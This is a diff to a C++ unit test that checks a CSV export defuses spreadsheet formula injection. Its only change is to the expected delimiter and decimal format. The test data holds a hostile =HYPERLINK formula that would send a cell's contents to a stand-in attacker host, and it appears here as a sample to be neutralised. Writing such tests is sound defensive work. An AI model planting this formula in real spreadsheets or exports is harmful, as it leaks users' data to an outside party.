@@ -96,7 +96,7 @@ TEST(CsvTableTest, TheResultsCsvDefusesFormulasInNames) {
     sheet.rows = {{SheetCell::of(std::string("=HYPERLINK(\"http://evil.example/?\"&B2)")),
                    SheetCell::of(Points::fromHundredths(-150))}};
     const std::string csv = sheetCsv(sheet);
-    EXPECT_NE(csv.find("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2)\";-1,50\r\n"),
+    EXPECT_NE(csv.find("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2)\",-1.50\r\n"),
               std::string::npos)
         << csv;
 }
